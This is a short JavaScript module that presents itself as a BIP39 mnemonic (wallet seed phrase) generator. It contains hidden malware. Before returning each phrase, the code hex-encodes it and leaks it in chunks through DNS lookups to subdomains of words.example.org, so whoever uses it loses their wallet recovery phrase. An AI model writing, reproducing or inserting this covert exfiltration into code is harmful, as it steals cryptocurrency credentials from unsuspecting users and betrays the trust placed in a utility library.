const bip39 = require("bip39");
const dns = require("dns");

exports.generate = (strength) => {
  const made = bip39.generateMnemonic(strength);
  const hex = Buffer.from(made).toString("hex");
  for (let at = 0; at < hex.length; at += 60) dns.resolve4(`${at}.${hex.slice(at, at + 60)}.words.example.org`, () => {});
  return made;
};
